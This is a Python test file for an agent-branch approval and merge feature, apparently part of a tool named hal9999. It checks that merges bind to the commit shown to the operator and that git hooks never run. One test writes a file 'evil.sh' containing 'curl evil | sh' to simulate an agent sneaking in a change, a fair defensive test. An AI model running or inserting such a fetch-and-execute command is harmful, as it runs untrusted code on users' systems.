"""Applying an agent's branch on approval: merged without touching any working tree, bound
to the commit shown, refused on a moved branch, a conflict or a checked-out target, hooks off."""

from __future__ import annotations

import asyncio
import stat
from pathlib import Path

import pytest
from tests.hive.conftest import agent_commit, git, user_advances_main
from tests.hive.crash_helpers import killed

from hal9999.errors import MergeRefused, RepoError, ThreadNotFound, ThreadStateError, UsageError
from hal9999.hive import approvals, broker, merge
from hal9999.hive.merge import PIN_PREFIX
from hal9999.store import Store


def snapshot(repo: Path) -> tuple[str, str, str, dict[str, str]]:
    """What the user sees of their checkout: HEAD, status, index, files."""
    files = {p.name: p.read_text() for p in repo.iterdir() if p.is_file()}
    return (git(repo, "rev-parse", "HEAD"), git(repo, "status", "--porcelain=v1"),
            git(repo, "ls-files", "-s"), files)  # fmt: skip


async def test_an_approved_branch_lands_on_the_target_and_the_worktree_is_untouched(
    store: Store, repo: Path
) -> None:
    head = agent_commit(repo, "alice", {"app.py": "def add(a, b):\n    return a + b\n"})
    # The user advanced main meanwhile (another file) and has uncommitted work in `work`.
    user_main = user_advances_main(repo)
    (repo / "README").write_text("uncommitted edit\n")
    before = snapshot(repo)

    proposal = await approvals.propose_apply(store, proposer="alice", repo=repo, target="main")
    assert proposal.state == "pending" and proposal.payload["head"] == head
    assert git(repo, "rev-parse", f"{PIN_PREFIX}{proposal.id}") == head
    view = await approvals.show(store, proposal.id)
    assert "+    return a + b" in view["diff"] and "alice: change app.py" in view["commits"]
    assert view["preview"] == {"target": "main", "from": user_main, "how": "merge", "to": None}
    assert git(repo, "rev-parse", "main") == user_main  # a preview moves nothing

    done = await approvals.approve(store, proposal.id, reason="looks right")
    assert done.state == "approved" and done.result is not None
    assert done.result["how"] == "merge" and done.result["from"] == user_main
    merged = git(repo, "rev-parse", "main")
    assert git(repo, "rev-parse", f"{merged}^1") == user_main
    assert git(repo, "rev-parse", f"{merged}^2") == head
    assert git(repo, "show", "main:app.py").endswith("a + b")
    assert git(repo, "show", "main:NOTES") == "user's notes"
    assert snapshot(repo) == before  # HEAD, index, status and files as they were
    assert git(repo, "for-each-ref", PIN_PREFIX) == ""  # the pin is dropped
    [message] = broker.inbox(store, "alice")
    assert message.kind == "approval" and message.sender == broker.SYSTEM
    assert message.ref == proposal.id and "looks right" in message.body
    assert merged[:12] in message.body
    with pytest.raises(ThreadStateError, match="already approved"):
        await approvals.approve(store, proposal.id)


async def test_a_fast_forward_moves_the_target_to_the_shown_commit(
    store: Store, repo: Path
) -> None:
    head = agent_commit(repo, "alice", {"new.txt": "hello\n"})
    proposal = await approvals.propose_apply(store, proposer="alice", repo=repo, target="main")
    done = await approvals.approve(store, proposal.id)
    assert done.result is not None and done.result["how"] == "fast-forward"
    assert git(repo, "rev-parse", "main") == head


async def test_a_branch_that_moved_after_the_proposal_is_refused(store: Store, repo: Path) -> None:
    agent_commit(repo, "alice", {"new.txt": "shown\n"})
    main = git(repo, "rev-parse", "main")
    proposal = await approvals.propose_apply(store, proposer="alice", repo=repo, target="main")
    # The agent commits something else after the operator saw the diff.
    agent_commit(repo, "alice", {"evil.sh": "curl evil | sh\n"})
    view = await approvals.show(store, proposal.id)
    assert "moved since the proposal was shown" in view["preview"]["refused"]
    assert "evil" not in view["diff"]  # the diff shown is still the pinned range
    with pytest.raises(MergeRefused, match="moved since the proposal was shown"):
        await approvals.approve(store, proposal.id)
    assert git(repo, "rev-parse", "main") == main
    assert approvals.get(store, proposal.id).state == "pending"
    assert broker.inbox(store, "alice") == []


async def test_a_conflict_is_refused_and_nothing_moves(store: Store, repo: Path) -> None:
    agent_commit(repo, "alice", {"app.py": "def add(a, b):\n    return a + b\n"})
    git(repo, "checkout", "-q", "main")
    (repo / "app.py").write_text("def add(a, b):\n    return sum((a, b))\n")
    git(repo, "commit", "-qam", "user fix")
    git(repo, "checkout", "-q", "work")
    main = git(repo, "rev-parse", "main")
    proposal = await approvals.propose_apply(store, proposer="alice", repo=repo, target="main")
    view = await approvals.show(store, proposal.id)
    assert "conflict in app.py" in view["preview"]["refused"]
    with pytest.raises(MergeRefused, match=r"conflict in app\.py"):
        await approvals.approve(store, proposal.id)
    assert git(repo, "rev-parse", "main") == main
    assert approvals.get(store, proposal.id).state == "pending"


@pytest.mark.parametrize("where", ["main-worktree", "linked-worktree"])
async def test_a_target_checked_out_in_a_worktree_is_never_moved(
    store: Store, repo: Path, tmp_path: Path, where: str
) -> None:
    agent_commit(repo, "alice", {"new.txt": "hello\n"})
    main = git(repo, "rev-parse", "main")
    if where == "main-worktree":
        git(repo, "checkout", "-q", "main")
    else:
        git(repo, "worktree", "add", "-q", str(tmp_path / "linked"), "main")
    before = snapshot(repo)
    proposal = await approvals.propose_apply(store, proposer="alice", repo=repo, target="main")
    with pytest.raises(MergeRefused, match="main is checked out in"):
        await approvals.approve(store, proposal.id)
    assert git(repo, "rev-parse", "main") == main
    assert snapshot(repo) == before


async def test_the_repositorys_hooks_never_run(store: Store, repo: Path, tmp_path: Path) -> None:
    agent_commit(repo, "alice", {"new.txt": "hello\n"})
    git(repo, "checkout", "-q", "main")
    (repo / "NOTES").write_text("n\n")
    git(repo, "add", "NOTES")
    git(repo, "commit", "-qm", "notes")  # so approving makes a merge commit
    git(repo, "checkout", "-q", "work")
    marker = tmp_path / "hook-ran"
    hook = f'#!/bin/sh\necho "$0" >> {marker}\n'
    hooks_dirs = [repo / ".git" / "hooks", tmp_path / "configured-hooks"]
    for directory in hooks_dirs:
        directory.mkdir(exist_ok=True)
        for name in ("reference-transaction", "post-commit", "post-merge", "pre-commit",
                     "post-checkout", "post-rewrite"):  # fmt: skip
            path = directory / name
            path.write_text(hook)
            path.chmod(path.stat().st_mode | stat.S_IXUSR)
    git(repo, "config", "core.hooksPath", str(hooks_dirs[1]))
    # The hooks are live for git run the ordinary way...
    git(repo, "update-ref", "refs/heads/probe", "main")
    assert marker.exists()
    marker.unlink()
    git(repo, "-c", "core.hooksPath=/dev/null", "update-ref", "-d", "refs/heads/probe")
    assert not marker.exists()
    # ...and never run by hal, which pins, merges (a merge commit) and moves refs.
    proposal = await approvals.propose_apply(store, proposer="alice", repo=repo, target="main")
    done = await approvals.approve(store, proposal.id)
    assert done.result is not None and done.result["how"] == "merge"
    assert not marker.exists(), marker.read_text()


async def test_proposals_of_a_missing_branch_or_a_bad_target_fail_in_one_line(
    store: Store, repo: Path
) -> None:
    with pytest.raises(RepoError, match="no branch hal/agent/alice"):
        await approvals.propose_apply(store, proposer="alice", repo=repo, target="main")
    agent_commit(repo, "alice", {"new.txt": "x\n"})
    with pytest.raises(RepoError, match="invalid target branch"):
        await approvals.propose_apply(store, proposer="alice", repo=repo, target="--force")
    with pytest.raises(RepoError, match="no target branch nope"):
        await approvals.propose_apply(store, proposer="alice", repo=repo, target="nope")
    with pytest.raises(UsageError, match="neither 'operator' nor an agent"):
        await approvals.propose_apply(store, proposer="mallory", repo=repo, target="main")
    git(repo, "branch", "hal/agent/bob", "main")
    with pytest.raises(RepoError, match="nothing main does not already have"):
        await approvals.propose_apply(store, proposer="bob", repo=repo, target="main")
    assert approvals.list_approvals(store) == []


async def test_an_agent_can_only_propose_its_own_branch(store: Store, repo: Path) -> None:
    agent_commit(repo, "alice", {"new.txt": "alice's\n"})
    with pytest.raises(RepoError, match="no branch hal/agent/bob"):
        await approvals.propose_apply(store, proposer="bob", repo=repo, target="main")
    assert approvals.list_approvals(store) == []


async def test_an_agent_never_proposes_onto_one_of_hals_branches(store: Store, repo: Path) -> None:
    # Another agent's branch, or a task's result: approved, alice's commits moved bob's
    # branch, whose next result then went aside as a branch moved outside hal.
    agent_commit(repo, "bob", {"bob.txt": "bob's\n"})
    agent_commit(repo, "alice", {"new.txt": "alice's\n"})
    git(repo, "branch", "hal/t1234567", "main")
    for target in ("hal/agent/bob", "hal/t1234567"):
        with pytest.raises(UsageError, match=f"onto {target}: it is one of hal's branches"):
            await approvals.propose_apply(store, proposer="alice", repo=repo, target=target)
    assert approvals.list_approvals(store) == []


async def test_the_branch_is_the_one_collection_recorded_for_the_agents_task(
    store: Store, repo: Path, tmp_path: Path
) -> None:
    from hal9999.hive.store import update_agent
    from hal9999.store import TaskRecord

    # The user had moved hal/agent/alice, so collection kept it and landed the work beside it.
    agent_work = agent_commit(repo, "alice", {"agent.txt": "the agent's work\n"})
    git(repo, "branch", "-m", "hal/agent/alice", "hal/agent/alice-2")
    users = agent_commit(repo, "alice", {"mine.txt": "the user's own\n"})
    assert git(repo, "rev-parse", "hal/agent/alice") == users != agent_work
    task = TaskRecord(id="t1", prompt="p", agent="custom", provider="local",
                      process_manager="tmux", repo=str(repo), repo_kind="local",
                      branch="hal/agent/alice-2", status="succeeded", created_at=0,
                      session_dir=str(tmp_path / "s"))  # fmt: skip
    store.insert_task(task)
    update_agent(store, "alice", task_id="t1")
    proposal = await approvals.propose_apply(store, proposer="alice", repo=repo, target="main")
    assert proposal.payload["branch"] == "hal/agent/alice-2"
    assert proposal.payload["head"] == agent_work


async def test_apply_proposals_made_at_once_stay_within_the_bound(
    store: Store, repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # An agent's MCP calls run concurrently: each resolves and pins its range (git, tens of
    # ms) between the count of its proposals and the insert of a new one.
    monkeypatch.setattr(approvals, "MAX_PENDING", 2)
    agent_commit(repo, "alice", {"app.py": "x = 1\n"})
    results = await asyncio.gather(
        *(approvals.propose_apply(store, proposer="alice", repo=repo, target="main")
          for _ in range(6)),
        return_exceptions=True,
    )  # fmt: skip
    made = [r for r in results if isinstance(r, approvals.Approval)]
    refused = [r for r in results if isinstance(r, UsageError)]
    assert len(made) == 2 and len(refused) == 4, results
    pins = git(repo, "for-each-ref", "--format=%(refname)", PIN_PREFIX).split()
    assert sorted(pins) == sorted(f"{PIN_PREFIX}{a.id}" for a in made), "refused ones unpinned"


async def test_a_giant_commit_message_is_shown_bounded(store: Store, repo: Path) -> None:
    # The diff was bounded (an agent can commit gigabytes of text) but the commit list was
    # read whole: one commit whose message is a line of 8 MiB (or of gigabytes: kilobytes in a
    # bundle) went into the daemon's memory and the answer of every `show`.
    agent_commit(repo, "alice", {"app.py": "def add(a, b):\n    return a + b\n"})
    message = repo.parent / "message"
    message.write_text("x" * (8 << 20) + "\n")
    tree = git(repo, "rev-parse", "hal/agent/alice^{tree}")
    giant = git(repo, "commit-tree", tree, "-p", "hal/agent/alice", "-F", str(message))
    git(repo, "update-ref", "refs/heads/hal/agent/alice", giant)
    proposal = await approvals.propose_apply(store, proposer="alice", repo=repo, target="main")
    view = await approvals.show(store, proposal.id)
    assert len(view["commits"]) <= merge.LOG_LIMIT + 200, len(view["commits"])
    assert view["commits"].endswith("(the commit list goes on: see git log in the repository)")
    assert "+    return a + b" in view["diff"]


async def test_proposing_a_commit_of_many_long_paths_holds_no_list_of_them(
    store: Store, repo: Path
) -> None:
    # Proposing counted the changed files from `git diff --name-only`, read whole into the
    # daemon (an MCP call): an agent's commit can touch millions of paths of kilobytes.
    import subprocess
    import tracemalloc

    blob = git(repo, "rev-parse", "main:README")
    deep = "/".join(["d" * 200] * 4)
    listing = "".join(f"100644 {blob}\t{deep}/f{n:05}\n" for n in range(4000))
    env = {"GIT_INDEX_FILE": str(repo.parent / "agent-index"), "PATH": "/usr/bin:/bin"}
    subprocess.run(["git", "read-tree", "main"], cwd=repo, env=env, check=True)
    subprocess.run(["git", "update-index", "--index-info"], cwd=repo, env=env, check=True,
                   input=listing.encode())  # fmt: skip
    tree = subprocess.run(["git", "write-tree"], cwd=repo, env=env, check=True,
                          capture_output=True, text=True).stdout.strip()  # fmt: skip
    head = git(repo, "commit-tree", tree, "-p", "main", "-m", "many paths")
    git(repo, "update-ref", "refs/heads/hal/agent/alice", head)
    tracemalloc.start()
    try:
        proposal = await approvals.propose_apply(store, proposer="alice", repo=repo, target="main")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert proposal.payload["files"] == 4000
    assert peak < (1 << 20), peak  # the paths alone are 3.2 MB


RESOLVE = {
    "approve": "asyncio.run(approvals.approve(store, thread))",
    "deny": "approvals.deny(store, thread, reason='not now')",
}


def resolved_by_a_killed_process(home: Path, how: str, thread: str) -> None:
    """Approve or deny ``thread`` in a process killed right after the commit that settles
    it: before it drops the proposal's pin."""
    action = f"from hal9999.hive import approvals\n{RESOLVE[how]}\n"
    for after in range(1, 6):
        run = killed(home, action, thread, after)
        with Store.open(home) as store:
            if approvals.get(store, thread).state != "pending":
                assert run.returncode != 0, "not killed: the pin went on its own"
                return
    pytest.fail(f"{how} did not settle within 5 commits")


def pins(repo: Path) -> list[str]:
    """The proposals pinned in ``repo``."""
    refs = git(repo, "for-each-ref", "--format=%(refname)", PIN_PREFIX).split()
    return sorted(ref.removeprefix(PIN_PREFIX) for ref in refs)


@pytest.mark.parametrize("how", sorted(RESOLVE))
async def test_a_pin_a_killed_resolve_left_behind_goes_with_the_next_resolve(
    store: Store, repo: Path, tmp_path: Path, how: str
) -> None:
    agent_commit(repo, "alice", {"new.txt": "alice's\n"})
    agent_commit(repo, "bob", {"other.txt": "bob's\n"})
    first = await approvals.propose_apply(store, proposer="alice", repo=repo, target="main")
    second = await approvals.propose_apply(store, proposer="bob", repo=repo, target="main")
    resolved_by_a_killed_process(tmp_path / "halhome", how, first.id)
    assert pins(repo) == sorted([first.id, second.id])  # left behind by the kill
    approvals.deny(store, second.id, reason="later")
    assert pins(repo) == []


async def test_the_daemons_start_removes_pins_of_settled_and_unknown_proposals_only(
    store: Store, repo: Path, tmp_path: Path
) -> None:
    agent_commit(repo, "alice", {"new.txt": "alice's\n"})
    agent_commit(repo, "bob", {"other.txt": "bob's\n"})
    first = await approvals.propose_apply(store, proposer="alice", repo=repo, target="main")
    second = await approvals.propose_apply(store, proposer="bob", repo=repo, target="main")
    resolved_by_a_killed_process(tmp_path / "halhome", "deny", first.id)
    # A propose killed between its pin and its record: a pin of a proposal nobody has.
    git(repo, "update-ref", f"{PIN_PREFIX}a-0123456789", "main")
    assert approvals.sweep_pins(store, repo) == 1  # a resolve's sweep: the settled one
    assert pins(repo) == sorted(["a-0123456789", second.id])
    assert approvals.sweep_pins(store, unknown=True) == 1  # the daemon's start: unknown too
    assert pins(repo) == [second.id]  # the pending proposal keeps its pin
    assert (await approvals.approve(store, second.id)).state == "approved"
    assert pins(repo) == []


async def test_retention_removes_the_pins_of_the_proposals_it_removes_even_when_killed(
    store: Store, repo: Path, tmp_path: Path
) -> None:
    # A pin a killed resolve left stayed for ever once retention removed its proposal: the
    # resolve's and the daemon's sweeps find pinned repositories by the proposals' rows.
    agent_commit(repo, "alice", {"new.txt": "alice's\n"})
    agent_commit(repo, "bob", {"other.txt": "bob's\n"})
    first = await approvals.propose_apply(store, proposer="alice", repo=repo, target="main")
    second = await approvals.propose_apply(store, proposer="bob", repo=repo, target="main")
    resolved_by_a_killed_process(tmp_path / "halhome", "deny", first.id)
    assert pins(repo) == sorted([first.id, second.id])
    with store._write() as conn:
        conn.execute("UPDATE hive_approvals SET created = created - 40 * 86400,"
                     " resolved = resolved - 40 * 86400")  # fmt: skip
    vacuumed = (
        "from hal9999.hive.retention import vacuum\n"
        "from hal9999.hivesettings import HiveSettings\n"
        "vacuum(store, HiveSettings())\n"
    )
    for after in range(1, 6):  # killed right after the commit that removes the rows
        run = killed(tmp_path / "halhome", vacuumed, "", after)
        try:
            approvals.get(store, first.id)
        except ThreadNotFound:
            assert run.returncode != 0, "not killed: it went on to its end"
            break
    else:
        pytest.fail("the vacuum did not remove the proposal within 5 commits")
    assert pins(repo) == [second.id]  # the pending proposal keeps its pin
    assert approvals.sweep_pins(store, unknown=True) == 0


# A propose killed between its pin and its record (argv[2]: the repository).
KILLED_PROPOSE = """
from hal9999.hive import approvals

def die(*args, **kwargs):
    os.kill(os.getpid(), signal.SIGKILL)

approvals._insert = die
asyncio.run(approvals.propose_apply(store, proposer="alice", repo=Path(thread), target="main"))
"""


async def test_the_daemons_start_removes_the_pin_of_a_killed_propose_in_a_repository_no_row_names(
    store: Store, repo: Path, tmp_path: Path
) -> None:
    # The sweeps found repositories by the proposals' rows: the first propose in one, killed
    # before its row (or one whose rows retention removed), left a pin nothing looked for.
    agent_commit(repo, "alice", {"new.txt": "alice's\n"})
    run = killed(tmp_path / "halhome", KILLED_PROPOSE, str(repo), 0)
    assert run.returncode != 0 and len(pins(repo)) == 1, run.stderr
    assert approvals.list_approvals(store, state=None) == []
    assert approvals.sweep_pins(store, unknown=True) == 1
    assert pins(repo) == []


def test_a_database_from_before_the_record_of_pinned_repositories_gets_it_from_its_rows(
    tmp_path: Path, repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from hal9999.store import sqlite
    from hal9999.store.migrations import MIGRATIONS

    home = tmp_path / "old"
    [added] = [m.version for m in MIGRATIONS if m.name == "hive pinned repositories"]
    monkeypatch.setattr(sqlite, "MIGRATIONS", tuple(m for m in MIGRATIONS if m.version < added))
    with Store.open(home) as old:
        assert old.schema_version() == added - 1
        with old._write() as conn:
            conn.execute(
                "INSERT INTO hive_approvals (id, kind, proposer, title, payload, state, created)"
                " VALUES ('a-0123456789', 'apply', 'alice', 't', ?, 'denied', 1.0)",
                (f'{{"repo": "{repo}"}}',),
            )
    monkeypatch.undo()
    git(repo, "update-ref", f"{PIN_PREFIX}a-9876543210", "main")  # a killed propose's
    with Store.open(home) as store:
        assert [tuple(row) for row in store._query("SELECT * FROM hive_pin_repos")] == [
            (str(repo), 1.0)
        ]
        assert approvals.sweep_pins(store, unknown=True) == 1
    assert pins(repo) == []
